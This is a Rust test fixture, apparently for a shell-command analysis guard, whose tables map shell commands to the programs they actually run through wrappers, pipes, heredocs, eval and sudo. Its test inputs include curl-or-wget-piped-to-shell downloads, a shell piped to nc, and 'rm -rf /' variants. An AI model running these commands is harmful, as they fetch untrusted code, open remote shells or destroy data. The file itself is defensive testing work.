    // R runs `-e` code, `-f FILE`, `R CMD BATCH FILE` or its stdin; `R CMD build` runs no script.
    code!("R -e 'unlink(1)'", "R -e unlink(1)" => "r arg unlink(1)"),
    code!("R --no-save -f job.R", "R --no-save -f job.R" => "r file job.R"),
    code!("R CMD BATCH --vanilla job.R", "R CMD BATCH --vanilla job.R" => "r file job.R"),
    code!("R CMD build pkg", "R CMD build pkg" => none),
    code!("R --no-save <<< 'unlink(1)'", "R --no-save" => r"r stdin 'unlink(1)\n'"),
    code!("jjs evil.js", "jjs evil.js" => "javascript file evil.js"),
    code!("ruby -e 'puts 1'", "ruby -e 'puts 1'" => "ruby arg 'puts 1'"),
    code!("ruby -e a -e b", "ruby -e a -e b" => r"ruby arg 'a\nb'"),
    code!("node -e 'x()'", "node -e x()" => "javascript arg x()"),
    code!("node -p '1+1'", "node -p 1+1" => "javascript arg 1+1"),
    code!("node app.js", "node app.js" => "javascript file app.js"),
    code!(r#"awk '{system("rm x")}'"#, r#"awk '{system("rm x")}'"# => r#"awk arg '{system("rm x")}'"#),
    code!("awk -F: '{print $1}' /etc/passwd", "awk -F: '{print $1}' /etc/passwd" => "awk arg '{print $1}'"),
    code!(r#"gawk 'BEGIN{system("id")}'"#, r#"gawk 'BEGIN{system("id")}'"# => r#"awk arg 'BEGIN{system("id")}'"#),
    code!("awk -f prog.awk data", "awk -f prog.awk data" => "awk file prog.awk"),
    code!("php -r 'echo 1;'", "php -r 'echo 1;'" => "php arg 'echo 1;'"),
    code!("lua -e 'os.exit()'", "lua -e os.exit()" => "lua arg os.exit()"),
    code!("bash -c 'rm x'", "bash -c 'rm x'" => "bash arg 'rm x'"),
    code!("sh -lc 'rm x'", "sh -lc 'rm x'" => "sh arg 'rm x'"),
    code!(r#"sh -c "$X""#, "sh -c ‹$X›" => "sh arg ‹$X›"),
    code!("bash script.sh", "bash script.sh" => "bash file script.sh"),
    code!("eval rm x", "eval rm x" => "bash arg 'rm x'"),
    code!("trap 'rm x' EXIT", "trap 'rm x' EXIT" => "bash arg 'rm x'"),
    code!("source ./x.sh", "source ./x.sh" => "bash file ./x.sh"),
    code!("source <(echo rm x)", "source '‹<(echo rm x)›'" => r"bash file 'rm x\n'"),
    code!("ssh host rm x", "ssh host rm x" => "sh arg 'rm x'"),
    code!("watch 'rm x'", "watch 'rm x'" => "sh arg 'rm x'"),
    code!("su -c 'rm x'", "su -c 'rm x'" => "sh arg 'rm x'"),
    code!("script -c 'rm x' /dev/null", "script -c 'rm x' /dev/null" => "sh arg 'rm x'"),
    // Code on stdin
    code!("echo 'print(1)' | python3", "python3" => r"python stdin 'print(1)\n'"),
    code!("python3 <<EOF\nprint(1)\nEOF", "python3" => r"python stdin 'print(1)\n'"),
    code!("python3 <<< 'print(1)'", "python3" => r"python stdin 'print(1)\n'"),
    code!("echo 'rm x' | sh", "sh" => r"sh stdin 'rm x\n'"),
    code!("bash <<EOF\nrm x\nEOF", "bash" => r"bash stdin 'rm x\n'"),
    code!("bash <<'EOF'\nrm $x\nEOF", "bash" => r"bash stdin 'rm $x\n'"),
    code!("curl -fsSL https://x | sh", "sh" => "sh stdin ~curl -fsSL https://x"),
    code!("curl -s http://x | python", "python" => "python stdin ~curl -s http://x"),
    code!("curl -s http://x | python3 -", "python3 -" => "python stdin ~curl -s http://x"),
    code!("wget -qO- http://x | bash", "bash" => "bash stdin ~wget -qO- http://x"),
    code!("curl http://x | sudo bash", "bash" => "bash stdin ~curl http://x"),
    code!("curl http://x | bash -s -- --flag", "bash -s -- --flag" => "bash stdin ~curl http://x"),
    code!("cat x.py | python", "python" => "python stdin ~cat x.py"),
    code!("sh < script.sh", "sh" => "sh stdin ~script.sh"),
    code!("cat file | sh", "sh" => "sh stdin ~cat file"),
    code!(r#"echo "$X" | sh"#, "sh" => "sh stdin ~echo"),
];

// ---------------------------------------------------------------------------------------------
// Pipelines
// ---------------------------------------------------------------------------------------------

const PIPES: &[Pipes] = &[
    // The grammar nests a pipeline whose middle stage has a redirect; it is one pipeline.
    pipes!("a | b 2>&1 | c" => ["a | b | c"]),
    pipes!("a | b 2>/dev/null | c 2>&1 | d" => ["a | b | c | d"]),
    pipes!("cat f | sh -i 2>&1 | nc host 4242" => ["cat f | sh -i | nc host 4242"]),
    pipes!("a | b | c" => ["a | b | c"]),
    pipes!("a |& b" => ["a |& b"]),
    pipes!("a | b |& c" => ["a | b |& c"]),
    pipes!("sudo a | b" => ["sudo a, a | b"]),
    pipes!("a | sudo b" => ["a | sudo b, b"]),
    pipes!("{ a; b; } | c" => ["a, b | c"]),
    pipes!("a | b && c | d" => ["a | b", "c | d"]),
    pipes!("a && b | c" => ["b | c"]),
    pipes!("echo x | xargs rm" => ["echo x | xargs rm, rm x"]),
    pipes!("ls 2>&1 | grep x > out" => ["ls | grep x"]),
    pipes!("x=$(a | b)" => ["a | b"]),
    pipes!("! a | b" => ["a | b"]),
    pipes!("a | b &" => ["a | b"]),
    pipes!("find . | xargs -I{} rm {}" => ["find . | xargs -I{} rm {}, rm ‹{}›"]),
    pipes!("a" => []),
    pipes!("a; b" => []),
    pipes!("cat <<EOF | sh\nrm x\nEOF" => ["cat | sh"]),
];

const STREAMS: &[Stream] = &[
    stream!("curl -s http://x | sh", "sh" => up ["curl -s http://x"] down []),
    stream!("curl -s http://x | sh", "curl -s http://x" => up [] down ["sh"]),
    stream!("a | b | c", "b" => up ["a"] down ["c"]),
    stream!("a | b | c", "c" => up ["b"] down []),
    stream!("sudo a | b", "b" => up ["sudo a", "a"] down []),
    stream!("echo x | sudo sh", "sh" => up ["echo x"] down []),
    stream!("{ a; b; } | c", "c" => up ["a", "b"] down []),
    stream!("a | b", "a" => up [] down ["b"]),
    stream!("a", "a" => up [] down []),
    stream!("cat <<EOF | sh\nrm x\nEOF", "sh" => up ["cat"] down []),
];

// ---------------------------------------------------------------------------------------------
// Redirections
// ---------------------------------------------------------------------------------------------

const REDIRECTS: &[Redirs] = &[
    redir!("a | b 2>&1 | c", "b" => ["2>& 1"]),
    redir!("echo x > f", "echo x" => ["> f"]),
    redir!("echo x >> f", "echo x" => [">> f"]),
    redir!("echo x 2> f", "echo x" => ["2> f"]),
    redir!("echo x >| f", "echo x" => [">| f"]),
    redir!("echo x &> f", "echo x" => ["&> f"]),
    redir!("echo x &>> f", "echo x" => ["&>> f"]),
    redir!("echo x 2>&1", "echo x" => ["2>& 1"]),
    redir!("echo x >&2", "echo x" => [">& 2"]),
    redir!("echo x 3>&-", "echo x" => ["3>& -"]),
    redir!("cat < f", "cat" => ["< f"]),
    redir!("cat <&3", "cat" => ["<& 3"]),
    redir!("echo x > f 2>&1", "echo x" => ["> f", "2>& 1"]),
    // Words after a redirection's target are more words of the command, as bash reads them.
    redir!("rm 2>/dev/null victim", "rm victim" => ["2> /dev/null"]),
    redir!("rm -rf 2>/dev/null /", "rm -rf /" => ["2> /dev/null"]),
    redir!("rm a >f b 2>g c", "rm a b c" => ["> f", "2> g"]),
    redir!("tee </dev/null a b", "tee a b" => ["< /dev/null"]),
    redir!("cat 2>&1 f", "cat f" => ["2>& 1"]),
    redir!("> f echo x", "echo x" => ["> f"]),
    redir!("echo x > ~/f", "echo x" => ["> /home/u/f"]),
    redir!(r#"echo x > "$HOME/a b""#, "echo x" => ["> '/home/u/a b'"]),
    redir!("echo x > $OUT", "echo x" => ["> ‹$OUT›"]),
    redir!("echo x > /tmp/{a,b}", "echo x" => ["> /tmp/{a,b}"]),
    redir!("cat <<EOF\nhi $HOME\nEOF", "cat" => [r"<< 'hi /home/u\n'"]),
    redir!("cat <<'EOF'\nhi $HOME\nEOF", "cat" => [r"<< 'hi $HOME\n'"]),
    redir!("cat <<-EOF\n\thi\n\tEOF", "cat" => [r"<< 'hi\n'"]),
    redir!("cat <<EOF\nhi $X\nEOF", "cat" => [r"<< 'hi ‹$X›\n'"]),
    redir!("cat <<< hi", "cat" => [r"<<< 'hi\n'"]),
    redir!(r#"cat <<< "$HOME""#, "cat" => [r"<<< '/home/u\n'"]),
    redir!("cat <<< 'a b'", "cat" => [r"<<< 'a b\n'"]),
    redir!("sudo tee /etc/f <<< x", "tee /etc/f" => [r"<<< 'x\n'"]),
    redir!("sudo tee /etc/f > /dev/null", "tee /etc/f" => ["> /dev/null"]),
    redir!("{ echo a; } > f", "echo a" => ["> f"]),
    redir!("( echo a ) 2> f", "echo a" => ["2> f"]),
    redir!("while read l; do echo $l; done < f", "read l" => ["< f"]),
    redir!("while read l; do echo $l; done < f", "echo ‹$l›" => ["< f"]),
    redir!("echo a | tee f > /dev/null", "tee f" => ["> /dev/null"]),
    redir!("echo a | tee f > /dev/null", "echo a" => []),
    redir!("> f", "''" => ["> f"]),
    redir!("exec 3> f", "exec" => ["3> f"]),
    redir!("if c; then echo a; fi > f", "echo a" => ["> f"]),
];

// ---------------------------------------------------------------------------------------------
// Why a word is dynamic
// ---------------------------------------------------------------------------------------------

const DYNAMIC: &[Dyn] = &[
    dynamic!(r#"rm -rf "$DIR"/*"#, "rm -rf ‹$DIR›/*", 2 => "$DIR", "environment"),
    dynamic!("echo ${X}", "echo ‹${X}›", 1 => "${X}", "environment"),
    dynamic!("echo $(date)", "echo ‹$(date)›", 1 => "$(date)", "command substitution"),
    dynamic!("echo `date`", "echo ‹`date`›", 1 => "`date`", "command substitution"),
    dynamic!("cat <(ls)", "cat ‹<(ls)›", 1 => "<(ls)", "process substitution"),
    dynamic!("echo $1", "echo ‹$1›", 1 => "$1", "positional"),
    dynamic!("for i in a*; do echo $i; done", "echo ‹$i›", 1 => "$i", "loop"),
    dynamic!("if c; then a=x; fi; echo $a", "echo ‹$a›", 1 => "$a", "conditional"),
    dynamic!("a=$(date); echo $a", "echo ‹$a›", 1 => "$a", "run time"),
    dynamic!("read x; echo $x", "echo ‹$x›", 1 => "$x", "builtin"),
    dynamic!(r#"cd "$D"; echo $PWD"#, "echo ‹$PWD›", 1 => "$PWD", "cd"),
    dynamic!("echo ~carol", "echo ‹~carol›", 1 => "~carol", "home"),
    dynamic!("xargs rm", "rm ‹…›", 1 => "…", "xargs"),
    dynamic!(r"find /srv -exec rm {} \;", "rm /srv/‹{}›", 1 => "{}", "/srv"),
    dynamic!("sudo -i", "‹$SHELL›", 0 => "$SHELL", "shell"),
];

// ---------------------------------------------------------------------------------------------
// Glob flags
// ---------------------------------------------------------------------------------------------

const GLOBS: &[Glob] = &[
    glob!(r#"rm -rf "$DIR"/*"#, "rm -rf ‹$DIR›/*" => [2]),
    glob!("rm -rf /*", "rm -rf /*" => [2]),
    glob!("rm -rf ~/*", "rm -rf /home/u/*" => [2]),
    glob!("ls $HOME/*.log", "ls /home/u/*.log" => [1]),
    glob!("echo *.txt", "echo *.txt" => [1]),
    glob!("echo a? a[bc]", "echo a? a[bc]" => [1, 2]),
    glob!("echo '*.txt' \"*\" \\*", "echo *.txt * *" => []),
    glob!("echo $'*'", "echo *" => []),
    glob!("echo '[a]'", "echo [a]" => []),
    glob!("x='*'; echo $x", "echo *" => [1]),
    glob!(r#"x='*'; echo "$x""#, "echo *" => []),
    glob!("echo {a,*}", "echo a *" => [2]),
    glob!("echo x=*", "echo x=*" => [1]),
    glob!(r#"rm *.o "*.c""#, "rm *.o *.c" => [1]),
    glob!("*", "*" => [0]),
    glob!("rm -rf /tmp/x", "rm -rf /tmp/x" => []),
    glob!("cd /tmp; rm -rf ./*", "rm -rf ./*" => [2]),
];

// ---------------------------------------------------------------------------------------------
// Parents and assignments
// ---------------------------------------------------------------------------------------------

const PARENTS: &[Parent] = &[
    parent!("rm x", "rm x" => none),
    parent!("sudo rm x", "rm x" => "sudo rm x"),
    parent!("sudo rm x", "sudo rm x" => none),
    parent!("bash -c 'rm x'", "rm x" => "bash -c 'rm x'"),
    parent!("sudo bash -c 'rm x'", "rm x" => "bash -c 'rm x'"),
    parent!("env FOO=1 sudo rm x", "rm x" => "sudo rm x"),
    parent!("echo rm x | sh", "rm x" => "sh"),
    parent!("xargs rm", "rm ‹…›" => "xargs rm"),
    parent!("find . -exec rm {} +", "rm ./‹{}›" => "find . -exec rm {} +"),
    parent!("eval rm x", "rm x" => "eval rm x"),
    parent!("ssh h rm x", "rm x" => "ssh h rm x"),
    parent!("trap 'rm x' EXIT", "rm x" => "trap 'rm x' EXIT"),
    parent!("bash <<EOF\nrm x\nEOF", "rm x" => "bash"),
];

const ASSIGNS: &[Assigns] = &[
    assigns!("FOO=1 rm x", "rm x" => ["FOO=1"]),
    assigns!("A=1 B=$HOME rm x", "rm x" => ["A=1", "B=/home/u"]),
    assigns!("FOO=~/x rm", "rm" => ["FOO=/home/u/x"]),
    assigns!("PATH=~/bin:~/x cmd", "cmd" => ["PATH=/home/u/bin:/home/u/x"]),
    assigns!(r#"X="a b" cmd"#, "cmd" => ["X='a b'"]),
    assigns!("X=$Y cmd", "cmd" => ["X=‹$Y›"]),
    assigns!("X=*.txt cmd", "cmd" => ["X=*.txt"]),
    assigns!("X={a,b} cmd", "cmd" => ["X={a,b}"]),
    assigns!("env FOO=1 rm x", "rm x" => ["FOO=1"]),
    assigns!("env PATH=/bin sh", "sh" => ["PATH=/bin"]),
    assigns!("rm x", "rm x" => []),
];

// ---------------------------------------------------------------------------------------------
// Issues: syntax errors are recorded and what can be read is still listed; limits are recorded
// ---------------------------------------------------------------------------------------------

const ISSUES: &[Issues] = &[
    issue!("rm x" => Clean, ["rm x"]),
    issue!("bash -c 'rm x'" => Clean, ["rm x"]),
    issue!("{rm,-rf,/}" => Syntax, []),
    issue!("echo \"unterminated" => Syntax, []),
    issue!("echo 'unterminated" => Syntax, []),
    issue!("if true; then rm x" => Syntax, ["rm x"]),
    issue!("rm x )" => Syntax, ["rm x"]),
    issue!("rm a; ) ; rm b" => Syntax, ["rm a", "rm b"]),
    issue!("echo $(rm x" => Syntax, ["rm x"]),
    issue!("(rm x" => Syntax, ["rm x"]),
    issue!("{ rm x" => Syntax, ["rm x"]),
    issue!("case x in a) rm x" => Syntax, ["rm x"]),
    // bash gives words after a heredoc's delimiter to the command; guard cannot, so it says so.
    issue!("rm <<EOF victim\nx\nEOF" => Syntax, ["rm", "victim"]),
    issue!("{ rm a; } >f b" => Syntax, ["rm a"]),
    issue!("for i in a; do rm x" => Syntax, ["rm x"]),
    issue!("while true; do rm x; " => Syntax, ["rm x"]),
    issue!("rm x |" => Syntax, ["rm x"]),
    issue!("rm x; ;; ls" => Syntax, ["rm x", "ls"]),
    issue!("f() {" => Syntax, []),
    issue!("bash -c 'rm x; )'" => Syntax, ["rm x"]),
    issue!("eval eval eval eval eval eval eval eval rm x" => Clean, ["rm x"]),
    issue!("eval eval eval eval eval eval eval eval eval rm x" => TooDeep, []),
    // An alias whose name is only known at run time may be any later command.
    issue!(r#"alias "$N=rm"; r x"# => RunTime, ["r x"]),
    issue!("alias r=rm; r x" => Clean, ["r x", "rm x"]),
];

// ---------------------------------------------------------------------------------------------
// Wrappers read as their own option parsers read them: options with optional values, options
// after operands, abbreviated long options, and wrappers that take a value before the command
// or the command as shell text. Each way through comes with a harmless look-alike.
// ---------------------------------------------------------------------------------------------

const WRAPPER_OPTIONS: &[Runs] = &[
    // env: the signal options take a value only after `=`; without one the next word is the program.
    runs!("env --default-signal rm x" => ["env --default-signal rm x", "rm x @wrap:env"]),
    runs!("env --default-signal ls -l" => ["env --default-signal ls -l", "ls -l @wrap:env"]),
    runs!("env --block-signal rm x" => ["env --block-signal rm x", "rm x @wrap:env"]),
    runs!("env --ignore-signal=INT rm x" => ["env --ignore-signal=INT rm x", "rm x @wrap:env"]),
    runs!("env --block-signal=INT,TERM ls" => ["env --block-signal=INT,TERM ls", "ls @wrap:env"]),
    runs!("env --ignore-signal INT rm x" => ["env --ignore-signal INT rm x", "INT rm x @wrap:env"]),
    runs!("env --list-signal-handling rm x" => ["env --list-signal-handling rm x", "rm x @wrap:env"]),
    // -S splits its string into words that take its place, options and assignments included.
    runs!("env --split-string='rm -rf /'" => ["env '--split-string=rm -rf /'", "rm -rf / @wrap:env"]),
    runs!("env --spl 'rm -rf /'" => ["env --spl 'rm -rf /'", "rm -rf / @wrap:env"]),
    runs!("env -S 'ls -l'" => ["env -S 'ls -l'", "ls -l @wrap:env"]),
    runs!("env -S'A=1 rm -rf /' x" => ["env '-SA=1 rm -rf /' x", "rm -rf / x @wrap:env"]),
    runs!("env -S '-C /tmp rm x'" => ["env -S '-C /tmp rm x'", "rm x @wrap:env cwd=/tmp"]),
    runs!("env --chdir /srv rm x" => ["env --chdir /srv rm x", "rm x @wrap:env cwd=/srv"]),
    runs!("env --unset HOME rm x" => ["env --unset HOME rm x", "rm x @wrap:env"]),
    runs!("env --u HOME rm x" => ["env --u HOME rm x", "rm x @wrap:env"]),
    runs!("env -u HOME -i rm x" => ["env -u HOME -i rm x", "rm x @wrap:env"]),
    runs!("env -i -0 -v rm x" => ["env -i -0 -v rm x", "rm x @wrap:env"]),
    runs!("env - rm x" => ["env - rm x", "rm x @wrap:env"]),
    runs!("env -0" => ["env -0"]),
    // An abbreviated long option that takes a value takes it (getopt_long).
    runs!("sudo --us root rm -rf /" => ["sudo --us root rm -rf /", "rm -rf / @wrap:sudo"]),
    runs!("sudo --prompt=x ls" => ["sudo --prompt=x ls", "ls @wrap:sudo"]),
    // util-linux script takes its options after the log file too.
    runs!(r#"script -q /dev/null -c "rm x""# => ["script -q /dev/null -c 'rm x'", "rm x @sh:script d=1"]),
    runs!("script /dev/null -qc 'rm x'" => ["script /dev/null -qc 'rm x'", "rm x @sh:script d=1"]),
    runs!("script --command='rm x' log" => ["script '--command=rm x' log", "rm x @sh:script d=1"]),
    runs!("script -q -c ls /dev/null" => ["script -q -c ls /dev/null", "ls @sh:script d=1"]),
    // With no command, script starts the user's shell.
    runs!("script -q log" => ["script -q log", "‹$SHELL› @wrap:script"]),
    // xargs: `-e`, `-i`, `-l` and `--eof`, `--replace`, `--max-lines` take a value only attached;
    // `-L` runs once per line, with each line's words as arguments.
    runs!("xargs --eof rm x" => ["xargs --eof rm x", "rm x ‹…› @xargs"]),
    runs!("xargs -eEND rm x" => ["xargs -eEND rm x", "rm x ‹…› @xargs"]),
    runs!("xargs -i rm {} <<< a" => ["xargs -i rm {}", "rm a @xargs"]),
    runs!("xargs -l rm <<< 'a b'" => ["xargs -l rm", "rm a b @xargs"]),
    runs!(r"printf '/ x\nc\n' | xargs -L1 rm -rf" => [r"printf '/ x\\nc\\n'", "xargs -L1 rm -rf", "rm -rf / x @xargs", "rm -rf c @xargs"]),
    runs!("xargs --arg-file=list rm" => ["xargs --arg-file=list rm", "rm ‹…› @xargs"]),
    runs!("xargs -a list -I{} rm {}" => ["xargs -a list -I{} rm {}", "rm ‹{}› @xargs"]),
    // nsenter's `-w`/`--wd` and the namespace options take a value only attached.
    runs!("nsenter -t 1 -p rm x" => ["nsenter -t 1 -p rm x", "rm x @wrap:nsenter"]),
    runs!("nsenter --target 1 --mount --uts -- ls" => ["nsenter --target 1 --mount --uts -- ls", "ls @wrap:nsenter"]),
    runs!("nsenter -t 1 -w rm x" => ["nsenter -t 1 -w rm x", "rm x @wrap:nsenter cwd=.|?"]),
    runs!("nsenter -t1 -w/srv rm x" => ["nsenter -t1 -w/srv rm x", "rm x @wrap:nsenter cwd=/srv"]),
    runs!("nsenter --wd rm x" => ["nsenter --wd rm x", "rm x @wrap:nsenter cwd=.|?"]),
    runs!("nsenter -t 1" => ["nsenter -t 1", "‹$SHELL› @wrap:nsenter"]),
    runs!("unshare --mount-proc -fp rm x" => ["unshare --mount-proc -fp rm x", "rm x @wrap:unshare"]),
    runs!("unshare -S 0 -G 0 ls" => ["unshare -S 0 -G 0 ls", "ls @wrap:unshare"]),
    runs!("unshare -m --propagation private rm x" => ["unshare -m --propagation private rm x", "rm x @wrap:unshare"]),
    // su: the words after the user go to the user's shell; with none, su starts that shell.
    runs!("su bob -- -c 'rm x'" => ["su bob -- -c 'rm x'", "rm x @sh:su d=1"]),
    runs!("su -s /bin/sh -c 'rm x' bob" => ["su -s /bin/sh -c 'rm x' bob", "rm x @sh:su d=1"]),
    runs!("su" => ["su", "‹$SHELL› @wrap:su"]),
    runs!("echo 'rm x' | su bob" => ["echo 'rm x'", "su bob", "‹$SHELL› @wrap:su", "rm x @pipe:su d=1"]),
    runs!("runuser bob -c 'rm x'" => ["runuser bob -c 'rm x'", "rm x @sh:runuser d=1"]),
    runs!("runuser -u bob -- sh -c 'rm x'" => ["runuser -u bob -- sh -c 'rm x'", "sh -c 'rm x' @wrap:runuser", "rm x @wrap:runuser>sh:sh d=1"]),
    runs!("doas -u bob -- rm x" => ["doas -u bob -- rm x", "rm x @wrap:doas"]),
];

/// Wrappers guard did not know: what they run was invisible.
const NEW_WRAPPERS: &[Runs] = &[
    runs!("ssh-agent rm x" => ["ssh-agent rm x", "rm x @wrap:ssh-agent"]),
    runs!("ssh-agent -s" => ["ssh-agent -s"]),
    runs!("dbus-run-session -- rm x" => ["dbus-run-session -- rm x", "rm x @wrap:dbus-run-session"]),
    runs!("xvfb-run -a -s '-screen 0' rm x" => ["xvfb-run -a -s '-screen 0' rm x", "rm x @wrap:xvfb-run"]),
    runs!("systemd-inhibit --what=idle rm x" => ["systemd-inhibit --what=idle rm x", "rm x @wrap:systemd-inhibit"]),
    runs!("/lib64/ld-linux-x86-64.so.2 /bin/rm x" => ["/lib64/ld-linux-x86-64.so.2 /bin/rm x", "/bin/rm x @wrap:ld-linux-x86-64.so.2"]),
    runs!("screen -dm rm x" => ["screen -dm rm x", "rm x @wrap:screen"]),
    runs!("screen -ls" => ["screen -ls"]),
    runs!("tmux new -d 'rm x'" => ["tmux new -d 'rm x'", "rm x @sh:tmux d=1"]),
    runs!("tmux new-session -s work -d rm x" => ["tmux new-session -s work -d rm x", "rm x @sh:tmux d=1"]),
    runs!("tmux ls" => ["tmux ls"]),
    runs!("echo 'rm x' | at now" => ["echo 'rm x'", "at now", "rm x @pipe:at d=1"]),
    runs!("at -l" => ["at -l"]),
    runs!("taskset 0x3 rm x" => ["taskset 0x3 rm x", "rm x @wrap:taskset"]),
    runs!("taskset -c 0,1 rm x" => ["taskset -c 0,1 rm x", "rm x @wrap:taskset"]),
    runs!("taskset 1 ls" => ["taskset 1 ls", "ls @wrap:taskset"]),
    runs!("taskset -p 123" => ["taskset -p 123"]),
    runs!("taskset -pc 0 123" => ["taskset -pc 0 123"]),
    runs!("chrt 10 rm x" => ["chrt 10 rm x", "rm x @wrap:chrt"]),
    runs!("chrt -f 10 rm x" => ["chrt -f 10 rm x", "rm x @wrap:chrt"]),
    runs!("chrt --rr 5 ls" => ["chrt --rr 5 ls", "ls @wrap:chrt"]),
    runs!("chrt -T 100 -d 0 rm x" => ["chrt -T 100 -d 0 rm x", "rm x @wrap:chrt"]),
    // Newer chrt lets the policies without a priority leave it out.
    runs!("chrt -o rm x" => ["chrt -o rm x", "rm x @wrap:chrt"]),
    runs!("chrt -p 123" => ["chrt -p 123"]),
    runs!("chrt -m" => ["chrt -m"]),
    runs!("setpriv --reuid=1000 --regid 1000 --init-groups rm x" => ["setpriv --reuid=1000 --regid 1000 --init-groups rm x", "rm x @wrap:setpriv"]),
    runs!("setpriv --nnp ls" => ["setpriv --nnp ls", "ls @wrap:setpriv"]),
    runs!("setpriv -d" => ["setpriv -d"]),
    runs!("fakeroot rm x" => ["fakeroot rm x", "rm x @wrap:fakeroot"]),
    runs!("fakeroot -l lib.so -- rm x" => ["fakeroot -l lib.so -- rm x", "rm x @wrap:fakeroot"]),
    runs!("fakeroot" => ["fakeroot", "‹$SHELL› @wrap:fakeroot"]),
    runs!("prlimit --nofile=10 rm x" => ["prlimit --nofile=10 rm x", "rm x @wrap:prlimit"]),
    runs!("prlimit -n10 ls" => ["prlimit -n10 ls", "ls @wrap:prlimit"]),
    runs!("prlimit --as=1000 -- rm x" => ["prlimit --as=1000 -- rm x", "rm x @wrap:prlimit"]),
    runs!("prlimit --pid 123 --nofile=10" => ["prlimit --pid 123 --nofile=10"]),
    runs!("systemd-run --scope rm -rf x" => ["systemd-run --scope rm -rf x", "rm -rf x @wrap:systemd-run"]),
    runs!("systemd-run --unit foo --property=CPUQuota=10% rm x" => ["systemd-run --unit foo --property=CPUQuota=10% rm x", "rm x @wrap:systemd-run cwd=/"]),
    runs!("systemd-run -u foo -E A=1 -t --same-dir rm x" => ["systemd-run -u foo -E A=1 -t --same-dir rm x", "rm x @wrap:systemd-run"]),
    runs!("systemd-run --uid=bob --gid bob -M box ls" => ["systemd-run --uid=bob --gid bob -M box ls", "ls @wrap:systemd-run cwd=.|?"]),
    runs!("systemd-run --on-calendar daily rm x" => ["systemd-run --on-calendar daily rm x", "rm x @wrap:systemd-run cwd=/"]),
    runs!("systemd-run --shell" => ["systemd-run --shell", "‹$SHELL› @wrap:systemd-run"]),
    runs!("pkexec rm x" => ["pkexec rm x", "rm x @wrap:pkexec cwd=/root"]),
    runs!("pkexec --disable-internal-agent --user bob -- rm x" => ["pkexec --disable-internal-agent --user bob -- rm x", "rm x @wrap:pkexec cwd=/srv/bob"]),
    runs!("pkexec --keep-cwd ls" => ["pkexec --keep-cwd ls", "ls @wrap:pkexec"]),
    runs!("pkexec" => ["pkexec", "‹$SHELL› @wrap:pkexec cwd=/root"]),
    runs!("numactl --interleave=all rm x" => ["numactl --interleave=all rm x", "rm x @wrap:numactl"]),
    runs!("numactl -N 0 -m 0 rm x" => ["numactl -N 0 -m 0 rm x", "rm x @wrap:numactl"]),
    runs!("numactl --cpunodebind=0 --membind 0 -- ls" => ["numactl --cpunodebind=0 --membind 0 -- ls", "ls @wrap:numactl"]),
    runs!("numactl --hardware" => ["numactl --hardware"]),
    runs!("cgexec -g cpu:grp rm x" => ["cgexec -g cpu:grp rm x", "rm x @wrap:cgexec"]),
    runs!("cgexec -g memory:/x --sticky sh -c 'rm y'" => ["cgexec -g memory:/x --sticky sh -c 'rm y'", "sh -c 'rm y' @wrap:cgexec", "rm y @wrap:cgexec>sh:sh d=1"]),
    // sg runs `sh -c CODE ARG…`: the first word after the group is shell code.
    runs!("sg wheel -c 'rm x'" => ["sg wheel -c 'rm x'", "rm x @sh:sg d=1"]),
    runs!("sg wheel 'rm x'" => ["sg wheel 'rm x'", "rm x @sh:sg d=1"]),
    runs!("sg - wheel rm x" => ["sg - wheel rm x", "rm @sh:sg d=1"]),
    runs!("sg wheel ls" => ["sg wheel ls", "ls @sh:sg d=1"]),
    runs!("sg wheel" => ["sg wheel", "‹$SHELL› @wrap:sg"]),
    runs!("chpst -u bob rm x" => ["chpst -u bob rm x", "rm x @wrap:chpst"]),
    runs!("chpst -C /srv -u bob rm x" => ["chpst -C /srv -u bob rm x", "rm x @wrap:chpst cwd=/srv"]),
    runs!("chpst -u bob -/ /jail rm x" => ["chpst -u bob -/ /jail rm x", "rm x @wrap:chpst cwd=.|?"]),
    runs!("setuidgid bob rm x" => ["setuidgid bob rm x", "rm x @wrap:setuidgid"]),
    runs!("envdir ./env rm x" => ["envdir ./env rm x", "rm x @wrap:envdir"]),
    runs!("softlimit -m 100 rm x" => ["softlimit -m 100 rm x", "rm x @wrap:softlimit"]),
    runs!("setlock -n f rm x" => ["setlock -n f rm x", "rm x @wrap:setlock"]),
    // daemonize runs the program in `/` unless told otherwise.
    runs!("daemonize /bin/rm x" => ["daemonize /bin/rm x", "/bin/rm x @wrap:daemonize cwd=/"]),
    runs!("daemonize -o /tmp/out -c /srv /bin/ls" => ["daemonize -o /tmp/out -c /srv /bin/ls", "/bin/ls @wrap:daemonize cwd=/srv"]),
    runs!("gdb --args rm x" => ["gdb --args rm x", "rm x @wrap:gdb"]),
    runs!("gdb -batch -ex run --args /bin/rm -rf /" => ["gdb -batch -ex run --args /bin/rm -rf /", "/bin/rm -rf / @wrap:gdb"]),
    runs!("gdb --cd=/srv --args rm x" => ["gdb --cd=/srv --args rm x", "rm x @wrap:gdb cwd=/srv"]),
    runs!("gdb -batch -ex 'shell rm x'" => ["gdb -batch -ex 'shell rm x'", "rm x @sh:gdb d=1"]),
    runs!("gdb -p 123 -ex '!rm x'" => ["gdb -p 123 -ex '!rm x'", "rm x @sh:gdb d=1"]),
    runs!("gdb -ex 'pipe info registers | rm x'" => ["gdb -ex 'pipe info registers | rm x'", "rm x @sh:gdb d=1"]),
    runs!("gdb ./prog core" => ["gdb ./prog core"]),
    runs!("valgrind --tool=memcheck -q rm x" => ["valgrind --tool=memcheck -q rm x", "rm x @wrap:valgrind"]),
    runs!("bwrap --ro-bind / / --dev /dev --chdir /srv rm x" => ["bwrap --ro-bind / / --dev /dev --chdir /srv rm x", "rm x @wrap:bwrap cwd=/srv"]),
    runs!("bwrap --bind /a /b --setenv A B rm x" => ["bwrap --bind /a /b --setenv A B rm x", "rm x @wrap:bwrap"]),
    runs!("bwrap --overlay a b c --ro-bind-data 3 /x -- ls" => ["bwrap --overlay a b c --ro-bind-data 3 /x -- ls", "ls @wrap:bwrap"]),
    runs!("bwrap --args 3" => ["bwrap --args 3", "‹…› @wrap:bwrap"]),
    runs!("unbuffer -p rm x" => ["unbuffer -p rm x", "rm x @wrap:unbuffer"]),
    runs!("firejail --private rm x" => ["firejail --private rm x", "rm x @wrap:firejail"]),
];

// ---------------------------------------------------------------------------------------------
// A script that names the shell's own standard input is the code on it
// ---------------------------------------------------------------------------------------------

const STDIN_PATHS: &[Runs] = &[
    // A descriptor the grammar reads as a word: bash reads it as the here-string's.
    runs!("bash 0<<<'rm x'" => ["bash", "rm x @heredoc:bash d=1"]),
    runs!("cat 0<<<hi" => ["cat"]),
    runs!(r#"bash /dev/stdin <<< "rm x""# => ["bash /dev/stdin", "rm x @heredoc:bash d=1"]),
